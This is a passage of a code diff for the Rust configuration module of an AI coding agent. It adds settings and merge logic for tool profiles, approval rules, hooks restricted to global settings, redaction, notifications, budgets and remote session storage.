@@ -1,9 +1,18 @@
 //! Configuration loading and management.
 
-use crate::agent::QueueMode;
+use crate::agent::{
+    AutoCompaction, ContextStrategy, DEFAULT_TOOL_DEFS_WARN_TOKENS, QueueMode, RetryPolicy,
+    ToolExposure,
+};
+use crate::compaction::ResolvedCompactionSettings;
 use crate::error::{Error, Result};
+use crate::hooks::{HookConfig, Hooks};
+use crate::notifications::{NotificationKind, NotificationSink, Notifier};
+use crate::permissions::{PermissionPolicy, PermissionRule};
+use crate::provider::{CacheRetention, HostedTool};
 use serde::{Deserialize, Serialize};
 use serde_json::Value;
+use std::collections::HashMap;
 use std::io::Write as _;
 use std::path::{Path, PathBuf};
 use tempfile::NamedTempFile;
@@ -18,11 +27,22 @@ pub struct Config {
     pub hide_thinking_block: Option<bool>,
     #[serde(alias = "showHardwareCursor")]
     pub show_hardware_cursor: Option<bool>,
+    /// Show the onboarding tour when the TUI starts a new session (set to `false` once seen).
+    #[serde(alias = "onboardingTour")]
+    pub onboarding_tour: Option<bool>,
 
     // Model Configuration
     pub default_provider: Option<String>,
     pub default_model: Option<String>,
     pub default_thinking_level: Option<String>,
+    /// Built-in tools enabled when `--tools` is not given: `default`, `readonly`, `all`,
+    /// or a comma-separated list.
+    #[serde(alias = "toolProfile")]
+    pub tool_profile: Option<String>,
+    /// Provider-hosted tools to declare (`code_execution`, `web_search`); the provider runs
+    /// them and pi records their results.
+    #[serde(alias = "hostedTools")]
+    pub hosted_tools: Option<Vec<HostedTool>>,
     #[serde(alias = "enabledModels")]
     pub enabled_models: Option<Vec<String>>,
 
@@ -45,21 +65,71 @@ pub struct Config {
     pub editor_padding_x: Option<u32>,
     #[serde(alias = "autocompleteMaxVisible")]
     pub autocomplete_max_visible: Option<u32>,
+    /// Keybinding overrides (action ID to key or keys), applied on top of `keybindings.json`.
+    #[serde(alias = "keymap")]
+    pub keybindings: Option<HashMap<String, Value>>,
+    /// Settings file each `keybindings` entry was read from, for attributing warnings.
+    #[serde(skip)]
+    pub keybinding_sources: HashMap<String, PathBuf>,
     /// Non-interactive session picker selection (1-based index).
     #[serde(alias = "sessionPickerInput")]
     pub session_picker_input: Option<u32>,
     /// Session persistence backend: `jsonl` (default) or `sqlite` (requires `sqlite-sessions`).
     #[serde(alias = "sessionStore", alias = "sessionBackend")]
     pub session_store: Option<String>,
+    /// Write new JSONL sessions as `.jsonl.zst`, always zstd-compressed.
+    #[serde(alias = "compressSessions")]
+    pub compress_sessions: Option<bool>,
+    /// Shared store every saved session is also uploaded to (see `crate::session_store`).
+    #[serde(alias = "remoteSessions")]
+    pub remote_sessions: Option<RemoteSessionSettings>,
 
     // Compaction
     pub compaction: Option<CompactionSettings>,
+    /// Which part of the history each request sends (see `crate::agent::ContextStrategy`).
+    #[serde(alias = "contextStrategy")]
+    pub context_strategy: Option<ContextStrategy>,
 
     // Branch Summarization
     pub branch_summary: Option<BranchSummarySettings>,
 
     // Retry Configuration
     pub retry: Option<RetrySettings>,
+    /// Diagnostics appended to failed tool results to help the model retry.
+    #[serde(alias = "toolRetry")]
+    pub tool_retry: Option<ToolRetrySettings>,
+    /// Prompt space taken by tool definitions: size warning and lazy exposure.
+    #[serde(alias = "toolDefinitions")]
+    pub tool_definitions: Option<ToolDefinitionSettings>,
+    /// Byte limits on tool result text, by tool name (`*` for the rest).
+    #[serde(alias = "toolOutputLimits")]
+    pub tool_output_limits: Option<HashMap<String, usize>>,
+    /// Seconds a tool may run before it is cancelled, by tool name (`*` for the rest).
+    #[serde(alias = "toolTimeouts")]
+    pub tool_timeouts: Option<HashMap<String, u64>>,
+    /// Prompt caching for providers that support it: `none`, `short` (default) or `long`.
+    #[serde(alias = "promptCache")]
+    pub prompt_cache: Option<CacheRetention>,
+    /// Identical tool calls in a row before the next is refused; `0` turns detection off.
+    #[serde(alias = "loopDetection")]
+    pub loop_detection: Option<u32>,
+
+    // Extra headers/query parameters for every provider request
+    #[serde(alias = "requestInjection")]
+    pub request_injection: Option<RequestInjectionSettings>,
+
+    // Process-wide provider request queue (see `crate::request_scheduler`)
+    #[serde(alias = "requestScheduler")]
+    pub request_scheduler: Option<RequestSchedulerSettings>,
+
+    // File content shaping for `read` output (see `crate::file_content`)
+    #[serde(alias = "fileContent")]
+    pub file_content: Option<FileContentSettings>,
+
+    // Context pinning
+    /// Token budget shared by files pinned with `/pin`.
+    #[serde(alias = "pinBudgetTokens")]
+    pub pin_budget_tokens: Option<u32>,
 
     // Shell
     pub shell_path: Option<String>,
@@ -73,6 +143,28 @@ pub struct Config {
 
     // Terminal Display
     pub terminal: Option<TerminalSettings>,
+    /// Header status line (cwd, git branch, dirty/staged markers).
+    #[serde(alias = "statusLine")]
+    pub status_line: Option<StatusLineSettings>,
+    /// Conversation rendering (`ui.thinking`, ...).
+    pub ui: Option<UiSettings>,
+    /// Interactive approval of `bash`, `write`, and `edit` tool calls.
+    #[serde(alias = "toolApproval")]
+    pub tool_approval: Option<ToolApprovalSettings>,
+    /// Directories outside the working directory that `write` and `edit` may change.
+    #[serde(alias = "writableRoots")]
+    pub writable_roots: Option<Vec<String>>,
+    /// Spend limit that switches the session to a cheaper model.
+    pub budget: Option<BudgetSettings>,
+    /// Name new sessions with a model-written title after the first reply.
+    #[serde(alias = "autoTitle")]
+    pub auto_title: Option<AutoTitleSettings>,
+    /// Secrets and personal data scrubbed from messages before sessions are saved.
+    pub redaction: Option<RedactionSettings>,
+    /// Where to send run, approval, and budget notifications.
+    pub notifications: Option<NotificationSettings>,
+    /// Shell commands run at agent lifecycle points (see `crate::hooks`). Global settings only.
+    pub hooks: Option<Vec<HookConfig>>,
 
     // Thinking Budgets
     pub thinking_budgets: Option<ThinkingBudgets>,
@@ -109,6 +201,61 @@ pub struct RetrySettings {
     pub max_delay_ms: Option<u32>,
 }
 
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolRetrySettings {
+    pub enabled: Option<bool>,
+    #[serde(alias = "maxRetries")]
+    pub max_retries: Option<u32>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolDefinitionSettings {
+    /// Warn when the declared tool definitions exceed this many estimated tokens (0 = never).
+    #[serde(alias = "warnTokens")]
+    pub warn_tokens: Option<u64>,
+    /// Declare only `core_tools` plus tools mentioned by name in the conversation.
+    pub lazy: Option<bool>,
+    /// Tools always declared in lazy mode (defaults to `read`, `bash`, `edit`, `write`).
+    #[serde(alias = "coreTools")]
+    pub core_tools: Option<Vec<String>>,
+}
+
+/// Header and query parameter templates (see `crate::provider::RequestInjection`).
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RequestInjectionSettings {
+    pub headers: Option<HashMap<String, String>>,
+    pub query: Option<HashMap<String, String>>,
+    /// Overrides keyed by provider name (`anthropic`, `openai`, ...).
+    pub providers: Option<HashMap<String, RequestInjectionSettings>>,
+}
+
+/// Concurrency limits for provider requests (see `crate::request_scheduler`).
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RequestSchedulerSettings {
+    /// In-flight requests allowed per provider; `0` or unset means unlimited.
+    #[serde(alias = "maxConcurrent")]
+    pub max_concurrent: Option<u32>,
+    /// Per-provider overrides of `max_concurrent`.
+    pub providers: Option<HashMap<String, u32>>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct FileContentSettings {
+    #[serde(alias = "stripComments")]
+    pub strip_comments: Option<bool>,
+    #[serde(alias = "stripWhitespace")]
+    pub strip_whitespace: Option<bool>,
+    #[serde(alias = "collapseRepeats")]
+    pub collapse_repeats: Option<bool>,
+    /// Overrides keyed by language name (`rust`, `python`, ...) or file extension.
+    pub languages: Option<HashMap<String, FileContentSettings>>,
+}
+
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
 #[serde(default)]
 pub struct ImageSettings {
@@ -123,6 +270,140 @@ pub struct TerminalSettings {
     pub clear_on_shrink: Option<bool>,
 }
 
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct StatusLineSettings {
+    pub enabled: Option<bool>,
+    #[serde(alias = "showCwd")]
+    pub show_cwd: Option<bool>,
+    #[serde(alias = "showGit")]
+    pub show_git: Option<bool>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct UiSettings {
+    /// How thinking content is shown: `off`, `summary`, or `full`.
+    pub thinking: Option<String>,
+    /// Stream thinking into a side panel instead of inline.
+    #[serde(alias = "thinkingPanel")]
+    pub thinking_panel: Option<bool>,
+    /// Plain line-by-line output without the full-screen view, spinners, or color.
+    #[serde(alias = "screenReader")]
+    pub screen_reader: Option<bool>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct ToolApprovalSettings {
+    pub enabled: Option<bool>,
+    /// Remembered "always" answers: a tool name (`bash`) or `tool:path` (`edit:src/lib.rs`).
+    #[serde(alias = "alwaysAllow")]
+    pub always_allow: Option<Vec<String>>,
+    /// Permission rules checked in order before each tool call; the first match wins.
+    pub rules: Option<Vec<PermissionRule>>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct BudgetSettings {
+    /// Session spend (USD) after which the session switches to `downgrade_model`.
+    #[serde(alias = "downgradeAfterUsd")]
+    pub downgrade_after_usd: Option<f64>,
+    /// Cheaper model to switch to, as `provider/id` or a bare model id.
+    #[serde(alias = "downgradeModel")]
+    pub downgrade_model: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct AutoTitleSettings {
+    pub enabled: Option<bool>,
+    /// Model that writes the title, as `provider/id` or a bare model id; the session's model
+    /// when unset.
+    pub model: Option<String>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RemoteSessionSettings {
+    /// WebDAV collection URL.
+    pub url: Option<String>,
+    pub username: Option<String>,
+    /// Environment variable holding the password (default `PI_SESSION_STORE_PASSWORD`).
+    #[serde(alias = "passwordEnv")]
+    pub password_env: Option<String>,
+    /// Accept a plain `http://` URL, which sends credentials and sessions unencrypted.
+    #[serde(alias = "allowHttp")]
+    pub allow_http: Option<bool>,
+}
+
+/// See `crate::redaction` for the built-in detectors.
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct RedactionSettings {
+    pub enabled: Option<bool>,
+    /// Built-in detectors to run; all of them when unset.
+    pub detectors: Option<Vec<String>>,
+    /// Extra regexes whose matches are redacted.
+    pub patterns: Option<Vec<String>>,
+}
+
+#[derive(Debug, Clone, Default, Serialize, Deserialize)]
+#[serde(default)]
+pub struct NotificationSettings {
+    pub sinks: Option<Vec<NotificationSink>>,
+    /// Events to send (`run_complete`, `permission_request`, `budget`); all when unset.
+    pub events: Option<Vec<NotificationKind>>,
+    /// Session spend (USD) thresholds; each sends one `budget` notification when crossed.
+    #[serde(alias = "budgetThresholdsUsd")]
+    pub budget_thresholds_usd: Option<Vec<f64>>,
+    /// Seconds without a key press before a pending approval counts as unattended.
+    #[serde(alias = "unattendedAfterSecs")]
+    pub unattended_after_secs: Option<u64>,
+}
+
+/// How thinking content is rendered in the conversation view.
+#[derive(Debug, Clone, Copy, Default, PartialEq, Eq)]
+pub enum ThinkingDisplay {
+    /// Hidden entirely.
+    Off,
+    /// First line only.
+    #[default]
+    Summary,
+    /// The whole stream, in a dimmed block.
+    Full,
+}
+
+impl ThinkingDisplay {
+    pub fn parse(value: &str) -> Option<Self> {
+        match value.trim().to_ascii_lowercase().as_str() {
+            "off" | "hidden" | "none" => Some(Self::Off),
+            "summary" => Some(Self::Summary),
+            "full" => Some(Self::Full),
+            _ => None,
+        }
+    }
+
+    pub const fn as_str(self) -> &'static str {
+        match self {
+            Self::Off => "off",
+            Self::Summary => "summary",
+            Self::Full => "full",
+        }
+    }
+
+    /// The next mode in the `off -> summary -> full` cycle.
+    #[must_use]
+    pub const fn next(self) -> Self {
+        match self {
+            Self::Off => Self::Summary,
+            Self::Summary => Self::Full,
+            Self::Full => Self::Off,
+        }
+    }
+}
+
 #[derive(Debug, Clone, Default, Serialize, Deserialize)]
 #[serde(default)]
 pub struct ThinkingBudgets {
@@ -152,6 +433,53 @@ pub enum SettingsScope {
     Project,
 }
 
+/// Settings layer an effective value came from.
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SettingSource {
+    /// The single file named by `PI_CONFIG_PATH`.
+    ConfigFile,
+    Project,
+    Global,
+    Default,
+}
+
+impl SettingSource {
+    pub const fn label(self) -> &'static str {
+        match self {
+            Self::ConfigFile => "PI_CONFIG_PATH",
+            Self::Project => "project",
+            Self::Global => "global",
+            Self::Default => "default",
+        }
+    }
+}
+
+/// An effective startup setting and the layer that set it (`pi config --explain`).
+#[derive(Debug, Clone, PartialEq, Eq)]
+pub struct ExplainedSetting {
+    pub key: &'static str,
+    pub value: Option<String>,
+    pub source: SettingSource,
+}
+
+/// Startup choices a project can pin, in the order `pi config --explain` lists them.
+const EXPLAINED_KEYS: &[&str] = &[
+    "default_provider",
+    "default_model",
+    "default_thinking_level",
+    "tool_profile",
+];
+
+/// Tools enabled by the built-in `tool_profile` names.
+const TOOL_PROFILES: &[(&str, &[&str])] = &[
+    ("default", &["read", "bash", "edit", "write"]),
+    ("readonly", &["read", "grep", "find", "ls"]),
+    (
+        "all",
+        &["read", "bash", "edit", "write", "grep", "find", "ls"],
+    ),
+];
+
 impl Config {
     /// Load configuration from global and project settings.
     pub fn load() -> Result<Self> {
@@ -218,12 +546,18 @@ impl Config {
         }
 
         let content = std::fs::read_to_string(path)?;
-        let config: Self = serde_json::from_str(&content).map_err(|e| {
+        let mut config: Self = serde_json::from_str(&content).map_err(|e| {
             Error::config(format!(
                 "Failed to parse settings file {}: {e}",
                 path.display()
             ))
         })?;
+        config.keybinding_sources = config
+            .keybindings
+            .iter()
+            .flat_map(HashMap::keys)
+            .map(|action| (action.clone(), path.to_path_buf()))
+            .collect();
         Ok(config)
     }
 
@@ -243,12 +577,94 @@ impl Config {
         }
 
         let global = Self::load_from_path(&global_dir.join("settings.json"))?;
-        let project = Self::load_from_path(&cwd.join(Self::project_dir()).join("settings.json"))?;
+        let project_path = cwd.join(Self::project_dir()).join("settings.json");
+        let project = Self::load_from_path(&project_path)?;
+        if project
+            .hooks
+            .as_ref()
+            .is_some_and(|hooks| !hooks.is_empty())
+        {
+            tracing::warn!(
+                path = %project_path.display(),
+                "Ignoring hooks in project settings; hooks are only read from global settings"
+            );
+        }
         let merged = Self::merge(global, project);
         merged.emit_queue_mode_diagnostics();
         Ok(merged)
     }
 
+    /// Resolve each startup setting (model, thinking level, tool profile) to its source layer.
+    pub fn explain_with_roots(
+        config_path: Option<&Path>,
+        global_dir: &Path,
+        cwd: &Path,
+    ) -> Result<Vec<ExplainedSetting>> {
+        let layers = if let Some(path) = config_path {
+            vec![(SettingSource::ConfigFile, Self::load_from_path(path)?)]
+        } else {
+            vec![
+                (
+                    SettingSource::Project,
+                    Self::load_from_path(&cwd.join(Self::project_dir()).join("settings.json"))?,
+                ),
+                (
+                    SettingSource::Global,
+                    Self::load_from_path(&global_dir.join("settings.json"))?,
+                ),
+            ]
+        };
+
+        Ok(EXPLAINED_KEYS
+            .iter()
+            .map(|&key| {
+                layers
+                    .iter()
+                    .find_map(|(source, config)| {
+                        config.startup_value(key).map(|value| ExplainedSetting {
+                            key,
+                            value: Some(value.to_string()),
+                            source: *source,
+                        })
+                    })
+                    .unwrap_or(ExplainedSetting {
+                        key,
+                        value: None,
+                        source: SettingSource::Default,
+                    })
+            })
+            .collect())
+    }
+
+    fn startup_value(&self, key: &str) -> Option<&str> {
+        match key {
+            "default_provider" => self.default_provider.as_deref(),
+            "default_model" => self.default_model.as_deref(),
+            "default_thinking_level" => self.default_thinking_level.as_deref(),
+            "tool_profile" => self.tool_profile.as_deref(),
+            _ => None,
+        }
+    }
+
+    /// Tools named by `tool_profile`, or `None` when unset.
+    pub fn tool_profile_tools(&self) -> Option<Vec<String>> {
+        let profile = self.tool_profile.as_deref()?.trim();
+        if let Some((_, tools)) = TOOL_PROFILES
+            .iter()
+            .find(|(name, _)| name.eq_ignore_ascii_case(profile))
+        {
+            return Some(tools.iter().map(ToString::to_string).collect());
+        }
+        Some(
+            profile
+                .split(',')
+                .map(str::trim)
+                .filter(|tool| !tool.is_empty())
+                .map(ToString::to_string)
+                .collect(),
+        )
+    }
+
     pub fn settings_path_with_roots(
         scope: SettingsScope,
         global_dir: &Path,
@@ -278,11 +694,14 @@ impl Config {
             theme: other.theme.or(base.theme),
             hide_thinking_block: other.hide_thinking_block.or(base.hide_thinking_block),
             show_hardware_cursor: other.show_hardware_cursor.or(base.show_hardware_cursor),
+            onboarding_tour: other.onboarding_tour.or(base.onboarding_tour),
 
             // Model Configuration
             default_provider: other.default_provider.or(base.default_provider),
             default_model: other.default_model.or(base.default_model),
             default_thinking_level: other.default_thinking_level.or(base.default_thinking_level),
+            tool_profile: other.tool_profile.or(base.tool_profile),
+            hosted_tools: other.hosted_tools.or(base.hosted_tools),
             enabled_models: other.enabled_models.or(base.enabled_models),
 
             // Message Handling
@@ -298,17 +717,50 @@ impl Config {
             autocomplete_max_visible: other
                 .autocomplete_max_visible
                 .or(base.autocomplete_max_visible),
+            keybindings: merge_maps(base.keybindings, other.keybindings),
+            keybinding_sources: {
+                let mut sources = base.keybinding_sources;
+                sources.extend(other.keybinding_sources);
+                sources
+            },
             session_picker_input: other.session_picker_input.or(base.session_picker_input),
             session_store: other.session_store.or(base.session_store),
+            compress_sessions: other.compress_sessions.or(base.compress_sessions),
+            remote_sessions: merge_remote_sessions(base.remote_sessions, other.remote_sessions),
 
             // Compaction
             compaction: merge_compaction(base.compaction, other.compaction),
+            context_strategy: other.context_strategy.or(base.context_strategy),
 
             // Branch Summarization
             branch_summary: merge_branch_summary(base.branch_summary, other.branch_summary),
 
             // Retry Configuration
             retry: merge_retry(base.retry, other.retry),
+            tool_retry: merge_tool_retry(base.tool_retry, other.tool_retry),
+            tool_definitions: merge_tool_definitions(base.tool_definitions, other.tool_definitions),
+            tool_output_limits: other.tool_output_limits.or(base.tool_output_limits),
+            tool_timeouts: other.tool_timeouts.or(base.tool_timeouts),
+            prompt_cache: other.prompt_cache.or(base.prompt_cache),
+            loop_detection: other.loop_detection.or(base.loop_detection),
+
+            // Request injection
+            request_injection: merge_request_injection(
+                base.request_injection,
+                other.request_injection,
+            ),
+
+            // Request scheduling
+            request_scheduler: merge_request_scheduler(
+                base.request_scheduler,
+                other.request_scheduler,
+            ),
+
+            // File content shaping
+            file_content: merge_file_content(base.file_content, other.file_content),
+
+            // Context pinning
+            pin_budget_tokens: other.pin_budget_tokens.or(base.pin_budget_tokens),
 
             // Shell
             shell_path: other.shell_path.or(base.shell_path),
@@ -320,6 +772,16 @@ impl Config {
 
             // Terminal Display
             terminal: merge_terminal(base.terminal, other.terminal),
+            status_line: merge_status_line(base.status_line, other.status_line),
+            ui: merge_ui(base.ui, other.ui),
+            tool_approval: merge_tool_approval(base.tool_approval, other.tool_approval),
+            writable_roots: other.writable_roots.or(base.writable_roots),
+            budget: merge_budget(base.budget, other.budget),
+            auto_title: merge_auto_title(base.auto_title, other.auto_title),
+            redaction: merge_redaction(base.redaction, other.redaction),
+            notifications: merge_notifications(base.notifications, other.notifications),
+            // Hooks run shell commands, so a checked-out repository must not be able to add them.
+            hooks: base.hooks,
 
             // Thinking Budgets
             thinking_budgets: merge_thinking_budgets(base.thinking_budgets, other.thinking_budgets),
@@ -365,6 +827,23 @@ impl Config {
             .unwrap_or(20000)
     }
 
+    /// `context_strategy`, sending the full history when unset.
+    pub fn context_strategy(&self) -> ContextStrategy {
+        self.context_strategy.unwrap_or_default()
+    }
+
+    /// Mid-run compaction for a model with `context_window` tokens; `None` when disabled.
+    pub fn auto_compaction(&self, context_window: u32) -> Option<AutoCompaction> {
+        self.compaction_enabled().then(|| AutoCompaction {
+            context_window,
+            settings: ResolvedCompactionSettings {
+                enabled: true,
+                reserve_tokens: self.compaction_reserve_tokens(),
+                keep_recent_tokens: self.compaction_keep_recent_tokens(),
+            },
+        })
+    }
+
     pub fn branch_summary_reserve_tokens(&self) -> u32 {
         self.branch_summary
             .as_ref()
@@ -394,6 +873,80 @@ impl Config {
             .unwrap_or(60000)
     }
 
+    /// `retry` as the agent's provider retry policy; `None` when disabled.
+    pub fn provider_retry_policy(&self) -> Option<RetryPolicy> {
+        (self.retry_enabled() && self.retry_max_retries() > 0).then(|| RetryPolicy {
+            max_retries: self.retry_max_retries(),
+            base_delay: std::time::Duration::from_millis(u64::from(self.retry_base_delay_ms())),
+            max_delay: std::time::Duration::from_millis(u64::from(self.retry_max_delay_ms())),
+        })
+    }
+
+    /// `tool_definitions` as the agent's tool exposure.
+    pub fn tool_exposure(&self) -> ToolExposure {
+        let settings = self.tool_definitions.clone().unwrap_or_default();
+        ToolExposure {
+            warn_tokens: match settings.warn_tokens {
+                Some(0) => None,
+                Some(tokens) => Some(tokens),
+                None => Some(DEFAULT_TOOL_DEFS_WARN_TOKENS),
+            },
+            core_tools: settings.lazy.unwrap_or(false).then(|| {
+                settings.core_tools.unwrap_or_else(|| {
+                    ["read", "bash", "edit", "write"]
+                        .into_iter()
+                        .map(str::to_string)
+                        .collect()
+                })
+            }),
+        }
+    }
+
+    pub fn tool_retry_enabled(&self) -> bool {
+        self.tool_retry
+            .as_ref()
+            .and_then(|r| r.enabled)
+            .unwrap_or(false)
+    }
+
+    pub fn tool_retry_max_retries(&self) -> u32 {
+        self.tool_retry
+            .as_ref()
+            .and_then(|r| r.max_retries)
+            .unwrap_or(2)
+    }
+
+    pub fn tool_output_limits(&self) -> HashMap<String, usize> {
+        self.tool_output_limits.clone().unwrap_or_default()
+    }
+
+    pub fn tool_timeouts(&self) -> HashMap<String, std::time::Duration> {
+        self.tool_timeouts
+            .iter()
+            .flatten()
+            .map(|(tool, secs)| (tool.clone(), std::time::Duration::from_secs(*secs)))
+            .collect()
+    }
+
+    pub fn prompt_cache(&self) -> CacheRetention {
+        self.prompt_cache.unwrap_or(CacheRetention::Short)
+    }
+
+    /// Loop detection threshold for the agent; `None` when turned off.
+    pub fn loop_detection(&self) -> Option<u32> {
+        match self.loop_detection {
+            Some(0) => None,
+            threshold => Some(threshold.unwrap_or(crate::agent::DEFAULT_LOOP_DETECTION_THRESHOLD)),
+        }
+    }
+
+    pub fn pin_budget_tokens(&self) -> usize {
+        self.pin_budget_tokens
+            .map_or(crate::agent::DEFAULT_PINNED_BUDGET_TOKENS, |tokens| {
+                tokens as usize
+            })
+    }
+
     pub fn image_auto_resize(&self) -> bool {
         self.images
             .as_ref()
@@ -415,6 +968,163 @@ impl Config {
             .unwrap_or(false)
     }
 
+    pub fn status_line_enabled(&self) -> bool {
+        self.status_line
+            .as_ref()
+            .and_then(|s| s.enabled)
+            .unwrap_or(false)
+    }
+
+    pub fn status_line_show_cwd(&self) -> bool {
+        self.status_line_enabled()
+            && self
+                .status_line
+                .as_ref()
+                .and_then(|s| s.show_cwd)
+                .unwrap_or(true)
+    }
+
+    pub fn status_line_show_git(&self) -> bool {
+        self.status_line_enabled()
+            && self
+                .status_line
+                .as_ref()
+                .and_then(|s| s.show_git)
+                .unwrap_or(true)
+    }
+
+    /// `ui.thinking`, falling back to the legacy `hideThinkingBlock` flag.
+    pub fn thinking_display(&self) -> ThinkingDisplay {
+        if let Some(display) = self
+            .ui
+            .as_ref()
+            .and_then(|ui| ui.thinking.as_deref())
+            .and_then(ThinkingDisplay::parse)
+        {
+            return display;
+        }
+        if self.hide_thinking_block.unwrap_or(false) {
+            ThinkingDisplay::Off
+        } else {
+            ThinkingDisplay::Summary
+        }
+    }
+
+    /// `ui.thinking_panel`: start with the thinking side panel open.
+    pub fn show_onboarding_tour(&self) -> bool {
+        self.onboarding_tour.unwrap_or(true)
+    }
+
+    pub fn thinking_panel(&self) -> bool {
+        self.ui
+            .as_ref()
+            .and_then(|ui| ui.thinking_panel)
+            .unwrap_or(false)
+    }
+
+    /// `ui.screen_reader`, or `PI_SCREEN_READER=1`: run the TUI in plain streaming mode.
+    pub fn screen_reader(&self) -> bool {
+        if std::env::var("PI_SCREEN_READER").is_ok_and(|value| value == "1") {
+            return true;
+        }
+        self.ui
+            .as_ref()
+            .and_then(|ui| ui.screen_reader)
+            .unwrap_or(false)
+    }
+
+    pub fn tool_approval_enabled(&self) -> bool {
+        self.tool_approval
+            .as_ref()
+            .and_then(|t| t.enabled)
+            .unwrap_or(true)
+    }
+
+    pub fn tool_approval_always_allow(&self) -> Vec<String> {
+        self.tool_approval
+            .as_ref()
+            .and_then(|t| t.always_allow.clone())
+            .unwrap_or_default()
+    }
+
+    pub fn hosted_tools(&self) -> Vec<HostedTool> {
+        self.hosted_tools.clone().unwrap_or_default()
+    }
+
+    /// `tool_approval.rules` as the agent's permission policy.
+    pub fn permission_policy(&self) -> PermissionPolicy {
+        PermissionPolicy::new(
+            self.tool_approval
+                .as_ref()
+                .and_then(|t| t.rules.clone())
+                .unwrap_or_default(),
+        )
+    }
+
+    /// `budget`: the spend threshold and target model, when both are configured.
+    pub fn budget_downgrade(&self) -> Option<(f64, String)> {
+        let budget = self.budget.as_ref()?;
+        let limit = budget.downgrade_after_usd.filter(|limit| *limit > 0.0)?;
+        let model = budget
+            .downgrade_model
+            .as_deref()
+            .map(str::trim)
+            .filter(|model| !model.is_empty())?;
+        Some((limit, model.to_string()))
+    }
+
+    /// The `hooks` setting, run in `cwd`.
+    pub fn hooks(&self, cwd: &std::path::Path) -> Hooks {
+        Hooks::new(self.hooks.clone().unwrap_or_default(), cwd)
+    }
+
+    /// `auto_title`: `None` when disabled, otherwise the configured title model (if any).
+    pub fn auto_title_model(&self) -> Option<Option<String>> {
+        let settings = self.auto_title.as_ref()?;
+        if !settings.enabled.unwrap_or(false) {
+            return None;
+        }
+        Some(
+            settings
+                .model
+                .as_deref()
+                .map(str::trim)
+                .filter(|model| !model.is_empty())
+                .map(str::to_string),
+        )
+    }
+
+    /// `notifications.sinks` and `notifications.events` as a notifier.
+    pub fn notifier(&self) -> Notifier {
+        let settings = self.notifications.as_ref();
+        Notifier::new(
+            settings.and_then(|n| n.sinks.clone()).unwrap_or_default(),
+            settings.and_then(|n| n.events.clone()),
+        )
+    }
+
+    /// `notifications.budget_thresholds_usd`, positive values in ascending order.
+    pub fn notification_budget_thresholds(&self) -> Vec<f64> {
+        let mut thresholds = self
+            .notifications
+            .as_ref()
+            .and_then(|n| n.budget_thresholds_usd.clone())
+            .unwrap_or_default();
+        thresholds.retain(|threshold| *threshold > 0.0);
+        thresholds.sort_by(f64::total_cmp);
+        thresholds
+    }
+
+    /// Idle time after which a pending approval is notified (default 60 seconds).
+    pub fn notification_unattended_after(&self) -> std::time::Duration {
+        std::time::Duration::from_secs(
+            self.notifications
+                .as_ref()
+                .and_then(|n| n.unattended_after_secs)
+                .unwrap_or(60),
+        )
+    }
+
     pub fn thinking_budget(&self, level: &str) -> u32 {
         let budgets = self.thinking_budgets.as_ref();
         match level {
@@ -510,6 +1220,98 @@ fn merge_retry(base: Option<RetrySettings>, other: Option<RetrySettings>) -> Opt
     }
 }
 
+fn merge_tool_retry(
+    base: Option<ToolRetrySettings>,
+    other: Option<ToolRetrySettings>,
+) -> Option<ToolRetrySettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(ToolRetrySettings {
+            enabled: other.enabled.or(base.enabled),
+            max_retries: other.max_retries.or(base.max_retries),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_tool_definitions(
+    base: Option<ToolDefinitionSettings>,
+    other: Option<ToolDefinitionSettings>,
+) -> Option<ToolDefinitionSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(ToolDefinitionSettings {
+            warn_tokens: other.warn_tokens.or(base.warn_tokens),
+            lazy: other.lazy.or(base.lazy),
+            core_tools: other.core_tools.or(base.core_tools),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_maps<V>(
+    base: Option<HashMap<String, V>>,
+    other: Option<HashMap<String, V>>,
+) -> Option<HashMap<String, V>> {
+    match (base, other) {
+        (Some(mut base), Some(other)) => {
+            base.extend(other);
+            Some(base)
+        }
+        (base, other) => other.or(base),
+    }
+}
+
+fn merge_request_injection(
+    base: Option<RequestInjectionSettings>,
+    other: Option<RequestInjectionSettings>,
+) -> Option<RequestInjectionSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(RequestInjectionSettings {
+            headers: merge_maps(base.headers, other.headers),
+            query: merge_maps(base.query, other.query),
+            providers: merge_maps(base.providers, other.providers),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_request_scheduler(
+    base: Option<RequestSchedulerSettings>,
+    other: Option<RequestSchedulerSettings>,
+) -> Option<RequestSchedulerSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(RequestSchedulerSettings {
+            max_concurrent: other.max_concurrent.or(base.max_concurrent),
+            providers: merge_maps(base.providers, other.providers),
+        }),
+        (None, Some(other)) => Some(other),
+        (Some(base), None) => Some(base),
+        (None, None) => None,
+    }
+}
+
+fn merge_file_content(
+    base: Option<FileContentSettings>,
+    other: Option<FileContentSettings>,
+) -> Option<FileContentSettings> {
+    match (base, other) {
+        (Some(base), Some(other)) => Some(FileContentSettings {
